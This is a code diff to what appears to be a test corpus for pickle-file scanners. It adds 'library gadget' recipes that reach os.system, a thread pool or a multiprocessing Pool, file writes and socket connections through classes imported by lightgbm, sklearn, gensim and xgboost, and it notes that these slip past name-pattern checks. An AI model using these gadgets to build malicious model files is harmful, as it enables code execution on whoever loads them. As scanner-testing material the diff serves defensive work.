@@ -89,7 +89,24 @@ CALLS: dict[str, Callable[[Sentinel], Any]] = {
     "catboost:CatBoost": lambda it: call("catboost.core:os.system", it.shell),
     "statsmodels.iolib.smpickle:load_pickle": lambda _: call("statsmodels.iolib.smpickle:load_pickle", "evil.pkl"),
     "transformers.dynamic_module_utils:os": lambda it: call("transformers.dynamic_module_utils:os.system", it.shell),
+    "lightgbm.basic:NamedTemporaryFile": lambda it: call(
+        "lightgbm.basic:NamedTemporaryFile", "w", -1, None, None, "", "sentinel", it.path.rpartition("/")[0], False
+    ),
+    "sklearn.callback._transport:Listener": lambda it: call("sklearn.callback._transport:Listener", it.path),
+    "sklearn.callback._transport:Client": lambda _: call("sklearn.callback._transport:Client", ("127.0.0.1", 9)),
+    "gensim.models.ldamulticore:Pool": lambda it: call(
+        "gensim.models.ldamulticore:Pool", 1, name("os:system"), (it.shell,)
+    ),
+    "gensim.corpora.sharded_corpus:ShardedCorpus": lambda it: call(
+        "gensim.corpora.sharded_corpus:ShardedCorpus", it.path, [[(0, 1.0)]], 1
+    ),
+    "xgboost.sklearn:ThreadPoolExecutor": lambda it: call(
+        "xgboost.sklearn:ThreadPoolExecutor.submit", call("xgboost.sklearn:ThreadPoolExecutor", 1), name("os:system"), it.shell
+    ),
 }  # fmt: skip
+"""The last ones are classes of others that a module of a harmless library has imported: a pattern of names lets them pass."""
+
+ATTEMPTS = {"sklearn.callback._transport:Listener", "sklearn.callback._transport:Client"}
 
 
 def _code(it: Sentinel) -> Any:
@@ -105,7 +122,7 @@ def recipes() -> Iterator[Recipe]:
         yield Recipe(
             id=f"library-gadget/{named}", family="gadgets of libraries", file="model.pkl", loader="pickle",
             make=lambda it, made=made: written(made(it), StackGlobal), needs=(named.split(":")[0].split(".")[0],),
-            beside=beside,
+            beside=beside, fires="attempt" if named in ATTEMPTS else "sentinel",
         )  # fmt: skip
 
 
